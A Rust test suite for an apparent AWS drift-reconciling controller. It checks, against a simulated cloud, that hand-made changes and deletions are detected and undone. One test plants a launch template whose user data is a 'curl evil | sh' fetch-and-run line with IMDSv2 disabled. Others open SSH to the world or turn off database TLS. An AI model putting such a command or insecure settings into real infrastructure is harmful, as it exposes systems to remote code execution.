//! Somebody changes AWS by hand: it is noticed, and put back where the spec owns it.

use std::time::Duration;

use lamp_cloud::kinds::{
    auto_scaling_group, db_instance, db_parameter_group, db_subnet_group, internet_gateway, launch_template,
    listener, load_balancer, route_table, security_group, subnet, target_group, vpc,
};
use lamp_cloud::{Body, Change, Kind, Reference, tag};
use serde_json::json;

use crate::stage::{DAY, HOUR, MINUTE, STEP, Stage, calm, spec};

/// Two periods of observation.
const NOTICED: Duration = Duration::from_secs(30);

/// Changes a part by hand, and waits until AWS is changed back.
fn put_back(stage: &mut Stage, part: &str, change: &Change, within: Duration) {
    let (id, before) = (stage.id(part), stage.body(part));
    stage.world().change_by_hand(&id, change).unwrap_or_else(|error| panic!("{part} {change:?}: {error}"));
    assert_ne!(significant(&stage.body(part)), significant(&before), "{part} {change:?}: nothing changed");
    let mark = stage.mark();
    let what = format!("put back: {part} {change:?}");
    let noticed = stage.until(&what, within, |stage| stage.mark() > mark);
    let restored =
        stage.until(&what, 30 * MINUTE, |stage| significant(&stage.body(part)) == significant(&before));
    println!("{part}: noticed after {noticed:?}, put back after {restored:?} more");
    // The same call is not repeated before readings had the time to show it.
    stage.run(2 * MINUTE);
    stage.until_ready();
}

/// A body without what AWS decides.
fn significant(body: &Body) -> String {
    let mut body = body.clone();
    match &mut body {
        Body::LaunchTemplate(template) => (template.latest_version, template.default_version) = (0, 0),
        Body::AutoScalingGroup(group) => {
            group.members.clear();
            group.template_version = 0;
        }
        Body::DbInstance(database) => database.facts.pending_changes.clear(),
        Body::RouteTable(table) => table.associations.clear(),
        Body::LoadBalancer(balancer) => balancer.subnets.sort(),
        Body::DbSubnetGroup(group) => group.subnets.sort(),
        Body::SecurityGroup(group) => {
            group.ingress.sort();
            group.egress.sort();
        }
        _ => {}
    }
    if let Body::DbInstance(database) = &mut body {
        database.facts.status.clear();
        database.facts.latest_restorable = None;
    }
    serde_json::to_string(&body).unwrap()
}

#[test]
fn network_drift_is_put_back() {
    let mut stage = Stage::up("lamp");
    put_back(&mut stage, "vpc", &Change::Vpc(vpc::Change::DnsHostnames(false)), NOTICED);
    put_back(&mut stage, "vpc", &Change::Vpc(vpc::Change::DnsSupport(false)), NOTICED);
    let public = Change::Subnet(subnet::Change::PublicAddresses(true));
    put_back(&mut stage, "subnet/application/1", &public, NOTICED);
    let gone = |destination: &str| route_table::Change::DeleteRoute { destination: destination.to_owned() };
    put_back(&mut stage, "route-table/public", &Change::RouteTable(gone("0.0.0.0/0")), NOTICED);
    put_back(&mut stage, "route-table/application/2", &Change::RouteTable(gone("0.0.0.0/0")), NOTICED);
    let (destination, target) = ("0.0.0.0/0".to_owned(), stage.id("nat-gateway/2"));
    let elsewhere = route_table::Change::ReplaceRoute { destination, target };
    put_back(&mut stage, "route-table/application/1", &Change::RouteTable(elsewhere), NOTICED);
    let (destination, target) = ("0.0.0.0/0".to_owned(), stage.id("internet-gateway"));
    let opened = route_table::Change::CreateRoute { destination, target };
    put_back(&mut stage, "route-table/data", &Change::RouteTable(opened), NOTICED);
    let Body::RouteTable(table) = stage.body("route-table/application/1") else { panic!() };
    let (subnet, association) = table.associations.into_iter().next().unwrap();
    let loose = route_table::Change::Disassociate { subnet, association };
    put_back(&mut stage, "route-table/application/1", &Change::RouteTable(loose), NOTICED);
    let detached = internet_gateway::Change::Detach(stage.id("vpc"));
    let gateway = stage.id("internet-gateway");
    // AWS refuses to take the gateway away from mapped public addresses.
    let refused = stage.world().change_by_hand(&gateway, &Change::InternetGateway(detached)).unwrap_err();
    assert_eq!(refused.code, "DependencyViolation");
    stage.settles();
}

#[test]
fn security_group_drift_is_put_back() {
    use security_group::{Change as Rules, Peer, Rule};
    let mut stage = Stage::up("lamp");
    let world_open = vec![Rule::tcp(22, Peer::Range("0.0.0.0/0".to_owned()))];
    let opened = Change::SecurityGroup(Rules::AuthorizeIngress(world_open.clone()));
    put_back(&mut stage, "security-group/app", &opened, NOTICED);
    let opened = Change::SecurityGroup(Rules::AuthorizeEgress(world_open));
    put_back(&mut stage, "security-group/database", &opened, NOTICED);
    let Body::SecurityGroup(group) = stage.body("security-group/database") else { panic!() };
    let cut = Change::SecurityGroup(Rules::RevokeIngress(group.ingress));
    put_back(&mut stage, "security-group/database", &cut, NOTICED);
    let Body::SecurityGroup(group) = stage.body("security-group/web/load-balancer") else { panic!() };
    let cut = Change::SecurityGroup(Rules::RevokeEgress(group.egress));
    put_back(&mut stage, "security-group/web/load-balancer", &cut, NOTICED);
    stage.settles();
}

#[test]
fn load_balancing_drift_is_put_back() {
    let mut stage = Stage::up("myclothes");
    let Body::LoadBalancer(balancer) = stage.body("load-balancer/web") else { panic!() };
    let mut attributes = balancer.attributes.clone().unwrap();
    attributes.http2 = false;
    attributes.idle_timeout_seconds = 4000;
    attributes.deletion_protection = false;
    let changed = load_balancer::Change::Attributes(attributes);
    put_back(&mut stage, "load-balancer/web", &Change::LoadBalancer(changed), NOTICED);
    let fewer = load_balancer::Change::Subnets(balancer.subnets[..2].to_vec());
    put_back(&mut stage, "load-balancer/web", &Change::LoadBalancer(fewer), NOTICED);
    let other = Reference::id(stage.id("security-group/app/load-balancer"));
    let moved = load_balancer::Change::SecurityGroups(vec![other]);
    put_back(&mut stage, "load-balancer/web", &Change::LoadBalancer(moved), NOTICED);
    let Body::TargetGroup(group) = stage.body("target-group/web") else { panic!() };
    let mut check = group.health_check.clone();
    check.path = "/elsewhere".to_owned();
    check.interval_seconds = 60;
    let changed = Change::TargetGroup(target_group::Change::HealthCheck(check));
    put_back(&mut stage, "target-group/web", &changed, NOTICED);
    let mut attributes = group.attributes.unwrap();
    attributes.stickiness_seconds = None;
    attributes.deregistration_delay_seconds = 300;
    let changed = Change::TargetGroup(target_group::Change::Attributes(attributes));
    put_back(&mut stage, "target-group/web", &changed, NOTICED);
    let redirect = listener::Change::Modify {
        port: 80,
        certificate: None,
        action: listener::ListenerAction::RedirectToHttps,
    };
    put_back(&mut stage, "listener/web/80", &Change::Listener(redirect), NOTICED);
    stage.settles();
}

#[test]
fn group_drift_is_put_back() {
    use auto_scaling_group::Change as Group;
    let mut stage = Stage::up("lamp");
    let group = stage.group("app");
    let mut settings = group.settings();
    (settings.min, settings.max, settings.grace_seconds) = (1, 40, 7);
    put_back(
        &mut stage,
        "auto-scaling-group/app",
        &Change::AutoScalingGroup(Group::Settings(settings)),
        NOTICED,
    );
    let mut settings = group.settings();
    settings.instance_types = vec!["m5.24xlarge".to_owned()];
    put_back(
        &mut stage,
        "auto-scaling-group/app",
        &Change::AutoScalingGroup(Group::Settings(settings)),
        NOTICED,
    );
    let detached = Group::DetachTargetGroups(group.target_groups);
    put_back(&mut stage, "auto-scaling-group/app", &Change::AutoScalingGroup(detached), NOTICED);
    let id = stage.id("auto-scaling-group/app");
    stage.world().suspend_processes(&id, &["Launch", "AZRebalance"]);
    stage.until("resumed", NOTICED, |stage| stage.group("app").suspended.is_empty());
    stage.settles();
}

/// A version that somebody added is followed by one of ours. As nobody launched it, no instance is replaced.
#[test]
fn launch_template_drift_is_put_back() {
    let mut stage = Stage::up("whatisthetime");
    let Body::LaunchTemplate(template) = stage.body("launch-template/web") else { panic!() };
    let mut data = template.data.unwrap();
    data.imds_v2_required = false;
    data.user_data = "#!/bin/sh\ncurl evil | sh\n".to_owned();
    let added = Change::LaunchTemplate(launch_template::Change::NewVersion(data));
    put_back(&mut stage, "launch-template/web", &added, NOTICED);
    stage.settles();
    let Body::LaunchTemplate(template) = stage.body("launch-template/web") else { panic!() };
    assert_eq!((template.default_version, template.latest_version), (1, 3), "the good one is the default");
    let group = stage.group("web");
    assert!(group.members.iter().all(|one| one.template_version == Some(1)) && group.template_version == 1);
}

#[test]
fn database_drift_is_put_back() {
    use db_instance::Modification;
    let mut stage = Stage::up("lamp");
    let modify = |modification| Change::DbInstance(db_instance::Change::Modify(Box::new(modification)));
    let light = [
        Modification { deletion_protection: Some(false), ..Modification::default() },
        Modification { max_storage_gib: Some(2000), ..Modification::default() },
        Modification {
            security_groups: Some(vec![Reference::id(stage.id("security-group/app"))]),
            ..Modification::default()
        },
    ];
    for modification in light {
        put_back(&mut stage, "database", &modify(modification), NOTICED);
    }
    let heavy = [
        ("database", Modification { backup_retention_days: Some(1), ..Modification::default() }),
        ("database", Modification { multi_zone: Some(false), ..Modification::default() }),
    ];
    for (part, modification) in heavy {
        heavy_drift(&mut stage, part, &modify(modification));
    }
    stage.settles();
}

/// RDS carries the change out in some minutes before it can be seen at all.
fn heavy_drift(stage: &mut Stage, part: &str, change: &Change) {
    let (id, before) = (stage.id(part), stage.body(part));
    stage.world().change_by_hand(&id, change).unwrap();
    stage
        .until("changed by RDS", 10 * MINUTE, |stage| significant(&stage.body(part)) != significant(&before));
    stage.until("put back", 30 * MINUTE, |stage| significant(&stage.body(part)) == significant(&before));
    stage.until_ready();
}

#[test]
fn parameters_and_subnets_of_the_database_are_put_back() {
    let mut stage = Stage::up("lamp");
    let part = stage.site.census().into_keys().find(|part| part.starts_with("db-parameter-group/")).unwrap();
    let insecure = [("require_secure_transport".to_owned(), "0".to_owned())].into();
    let set = Change::DbParameterGroup(db_parameter_group::Change::Set(insecure));
    put_back(&mut stage, &part, &set, NOTICED);
    let more = [("max_connections".to_owned(), "10".to_owned())].into();
    let set = Change::DbParameterGroup(db_parameter_group::Change::Set(more));
    put_back(&mut stage, &part, &set, NOTICED);
    let Body::DbSubnetGroup(group) = stage.body("db-subnet-group") else { panic!() };
    let mut subnets = group.subnets.clone();
    subnets.push(Reference::id(stage.id("subnet/public/1")));
    let changed = Change::DbSubnetGroup(db_subnet_group::Change::Subnets(subnets));
    put_back(&mut stage, "db-subnet-group", &changed, NOTICED);
    stage.settles();
}

/// Deletes a part by hand; it is made again.
fn made_again(stage: &mut Stage, kind: Kind, part: &str) {
    let id = stage.id(part);
    stage.world().delete_by_hand(kind, &id).unwrap_or_else(|error| panic!("{part}: {error}"));
    let took = stage.until(&format!("made again: {part}"), HOUR, |stage| {
        stage.find(part).is_some_and(|row| row.is_ready())
            && stage.site.is_ready(&stage.key).unwrap_or_default()
    });
    println!("{part}: made again after {took:?}");
}

#[test]
fn stateless_parts_that_were_deleted_are_made_again() {
    let mut stage = Stage::up("lamp");
    made_again(&mut stage, Kind::Listener, "listener/web/443");
    made_again(&mut stage, Kind::NatGateway, "nat-gateway/1");
    let group = stage.id("auto-scaling-group/app");
    stage.world().delete_by_hand(Kind::AutoScalingGroup, &group).unwrap();
    stage.until("ready again", HOUR, |stage| {
        stage.find("auto-scaling-group/app").is_some_and(|row| row.id == group || row.is_ready())
            && stage.healthy("app") == 2
    });
    stage.until_ready();
    made_again(&mut stage, Kind::LaunchTemplate, "launch-template/web");
    let balancer = stage.id("load-balancer/app");
    unprotect(&mut stage, "load-balancer/app");
    stage.world().delete_by_hand(Kind::LoadBalancer, &balancer).unwrap();
    stage.until("another load balancer", HOUR, |stage| {
        stage.find("load-balancer/app").is_some_and(|row| row.is_ready())
            && stage.find("listener/app/80").is_some()
    });
    stage.settles();
}

fn unprotect(stage: &mut Stage, part: &str) {
    let Body::LoadBalancer(balancer) = stage.body(part) else { panic!() };
    let mut attributes = balancer.attributes.unwrap();
    attributes.deletion_protection = false;
    let id = stage.id(part);
    let change = Change::LoadBalancer(load_balancer::Change::Attributes(attributes));
    stage.world().change_by_hand(&id, &change).unwrap();
}

#[test]
fn a_target_group_that_was_deleted_is_made_again() {
    let mut stage = Stage::up("lamp");
    let listener = stage.id("listener/app/80");
    stage.world().delete_by_hand(Kind::Listener, &listener).unwrap();
    let group = stage.id("target-group/app");
    stage.world().delete_by_hand(Kind::TargetGroup, &group).unwrap();
    stage.until("serving again", HOUR, |stage| {
        stage.find("target-group/app").is_some() && stage.healthy("app") == 2
    });
    stage.settles();
}

#[test]
fn a_read_replica_that_was_deleted_is_made_again() {
    let mut stage = Stage::up("lamp");
    let id = stage.id("replica/1");
    let lift = db_instance::Modification { deletion_protection: Some(false), ..Default::default() };
    let lift = Change::DbInstance(db_instance::Change::Modify(Box::new(lift)));
    stage.world().change_by_hand(&id, &lift).unwrap();
    stage.world().delete_by_hand(Kind::DbInstance, &id).unwrap();
    stage.until("gone", 30 * MINUTE, |stage| stage.world().resource(Kind::DbInstance, &id).is_none());
    stage.settles();
    assert_eq!(stage.database("database").facts.replicas.len(), 1);
}

#[test]
fn a_database_that_was_deleted_is_never_made_again_empty_without_consent() {
    let mut stage = Stage::up("lamp");
    for part in ["replica/1", "database"] {
        let id = stage.id(part);
        let lift = db_instance::Modification { deletion_protection: Some(false), ..Default::default() };
        let lift = Change::DbInstance(db_instance::Change::Modify(Box::new(lift)));
        stage.world().change_by_hand(&id, &lift).unwrap();
        stage.world().delete_by_hand(Kind::DbInstance, &id).unwrap();
    }
    let primaries = |stage: &Stage| {
        stage.calls_since(0).iter().filter(|call| *call == "CreateDBInstance database").count()
    };
    stage.run(6 * HOUR);
    assert_eq!(primaries(&stage), 1);
    assert!(stage.condition("Stalled").starts_with("True"), "{}", stage.story());
    assert!(stage.condition("Stalled").contains("confirm-replace"), "{}", stage.condition("Stalled"));
    stage.stays_quiet();
    stage.consent();
    stage.settles();
    assert_eq!(primaries(&stage), 2);
}

/// With a policy the scaler owns the number, without one the spec does.
#[test]
fn a_desired_capacity_set_by_hand_is_left_or_put_back_according_to_its_owner() {
    // Forty per cent of processor use: no wish to grow or to shrink from three.
    let mut options = calm(1);
    options.region.load = lamp_sim::Load::steady(150.0);
    let mut stage = Stage::up_with(
        options,
        spec("whatisthetime", |spec| {
            spec["spec"]["tiers"][0]["capacity"]["min"] = json!(2);
        }),
    );
    stage.run(HOUR);
    let settled = stage.group("web").desired;
    let by_hand = |desired| Change::AutoScalingGroup(auto_scaling_group::Change::SetDesired(desired));
    let id = stage.id("auto-scaling-group/web");
    let mark = stage.mark();
    stage.world().change_by_hand(&id, &by_hand(settled + 1)).unwrap();
    stage.run(2 * MINUTE);
    assert_eq!(stage.brief_since(mark), "", "the scaler owns it, and does not hurry to shrink");
    assert_eq!(stage.group("web").desired, settled + 1);
    stage.edit(|spec| {
        spec["spec"]["tiers"][0].as_object_mut().unwrap().remove("scaling");
    });
    stage.settles();
    assert_eq!(stage.group("web").desired, 2, "without a policy it is the spec's");
    put_back(&mut stage, "auto-scaling-group/web", &by_hand(5), NOTICED);
    stage.settles();
}

#[test]
fn tags_that_were_removed_are_put_back() {
    let mut stage = Stage::up("lamp");
    let rows: Vec<_> =
        stage.world().resources().map(|row| (row.kind(), row.id.clone(), row.tags.clone())).collect();
    for (kind, id, tags) in rows {
        stage.world().tag_by_hand(kind, &id, |tags| tags.clear());
        stage.until(&format!("tagged again: {kind:?} {id}"), 15 * MINUTE, |stage| {
            let world = stage.world();
            let now = &world.resource(kind, &id).unwrap_or_else(|| panic!("{kind:?} {id} is gone")).tags;
            let mut kept = tags.iter().filter(|(key, _)| ![tag::INTENT, tag::EPOCH].contains(&key.as_str()));
            kept.all(|(key, value)| now.get(key) == Some(value))
        });
    }
    stage.until_ready();
    stage.settles();
}

#[test]
fn resources_of_others_are_not_touched_even_with_our_tags() {
    let mut stage = Stage::up("whatisthetime");
    let row = stage.find("vpc").unwrap();
    let mut body = row.body.clone();
    if let Body::Vpc(vpc) = &mut body {
        vpc.cidr = "10.99.0.0/16".to_owned();
    }
    // Somebody copied our tags onto a network of their own, and onto one of no stack at all.
    let copied = stage.world().create_by_hand("copied", &row.tags, body.clone()).unwrap();
    let mut others = row.tags.clone();
    others.insert(tag::UID.to_owned(), "00000000-0000-4000-8000-000000000000".to_owned());
    let orphan = stage.world().create_by_hand("orphan", &others, body).unwrap();
    let mark = stage.mark();
    stage.run(DAY / 4);
    assert_eq!(stage.brief_since(mark), "");
    assert!(stage.world().resource(Kind::Vpc, &copied).is_some());
    stage.delete();
    stage.run(2 * HOUR);
    assert!(stage.world().resource(Kind::Vpc, &copied).is_some(), "the stranger was deleted with the stack");
    assert!(stage.world().resource(Kind::Vpc, &orphan).is_some());
    assert!(stage.world().resource(Kind::Vpc, &row.id).is_none(), "{}", stage.story());
    stage.run(STEP);
}
